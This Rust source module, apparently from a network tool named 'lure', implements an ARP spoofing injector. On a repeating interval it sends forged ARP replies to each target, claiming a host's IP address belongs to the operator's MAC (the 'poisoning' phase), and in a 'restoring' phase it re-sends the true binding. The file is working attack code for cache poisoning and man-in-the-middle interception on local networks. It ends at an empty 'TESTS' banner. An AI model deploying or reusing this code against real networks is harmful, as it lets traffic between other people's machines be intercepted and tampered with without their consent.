//! Periodic transmission of ARP replies asserting a binding to every target.
//!
//! While poisoning, the claim is `{host_ip, operator MAC}`; while restoring,
//! the claim is the host's real binding. Frames always leave with the
//! interface's own MAC as Ethernet source.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use lure_common::AddressBinding;
use lure_protocols::arp;
use pnet::util::MacAddr;
use tokio::time::{self, MissedTickBehavior};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use crate::error::SpoofError;
use crate::network::channel::{self, SharedSender};
use crate::resolver::Resolver;

/// Counters returned by an injector when it stops.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct InjectorReport {
    pub rounds: u64,
    pub sent: u64,
    pub skipped: u64,
    pub failed: u64,
}

pub struct Injector {
    phase: &'static str,
    tx: SharedSender,
    resolver: Resolver,
    eth_src: MacAddr,
    claim: AddressBinding,
    targets: Arc<[Ipv4Addr]>,
    interval: Duration,
}

impl Injector {
    pub fn new(
        phase: &'static str,
        tx: SharedSender,
        resolver: Resolver,
        eth_src: MacAddr,
        claim: AddressBinding,
        targets: Arc<[Ipv4Addr]>,
        interval: Duration,
    ) -> Self {
        Self {
            phase,
            tx,
            resolver,
            eth_src,
            claim,
            targets,
            interval,
        }
    }

    /// Sends a round immediately, then one per interval until `token` is
    /// cancelled. Nothing is sent once this returns.
    pub async fn run(self, token: CancellationToken) -> InjectorReport {
        let mut report = InjectorReport::default();
        let mut ticker = time::interval(self.interval);
        ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);

        ticker.tick().await;
        self.round(&mut report);

        loop {
            tokio::select! {
                biased;
                _ = token.cancelled() => break,
                _ = ticker.tick() => self.round(&mut report),
            }
        }

        info!(
            phase = self.phase,
            claim = %self.claim,
            rounds = report.rounds,
            sent = report.sent,
            skipped = report.skipped,
            failed = report.failed,
            "injector stopped"
        );
        report
    }

    /// Runs for `window`, always completing at least one round.
    pub async fn run_for(self, window: Duration) -> InjectorReport {
        let token = CancellationToken::new();
        let timer = token.clone();
        let guard = tokio::spawn(async move {
            time::sleep(window).await;
            timer.cancel();
        });
        let report = self.run(token).await;
        guard.abort();
        report
    }

    fn round(&self, report: &mut InjectorReport) {
        report.rounds += 1;
        for &ip in self.targets.iter() {
            let dst = match self.resolver.resolve(ip) {
                Ok(binding) => binding,
                Err(e) => {
                    report.skipped += 1;
                    debug!(phase = self.phase, target_ip = %ip, error = %e, "target skipped this round");
                    continue;
                }
            };
            match self.send_claim(dst) {
                Ok(()) => report.sent += 1,
                Err(e) => {
                    report.failed += 1;
                    warn!(phase = self.phase, error = %e, "injection failed");
                }
            }
        }
    }

    fn send_claim(&self, dst: AddressBinding) -> Result<(), SpoofError> {
        let frame = arp::create_reply(self.eth_src, self.claim, dst).map_err(|e| {
            SpoofError::Transmission {
                dst: dst.ip(),
                reason: format!("{e:#}"),
            }
        })?;
        channel::send_frame(&self.tx, &frame).map_err(|e| SpoofError::Transmission {
            dst: dst.ip(),
            reason: e.to_string(),
        })
    }
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
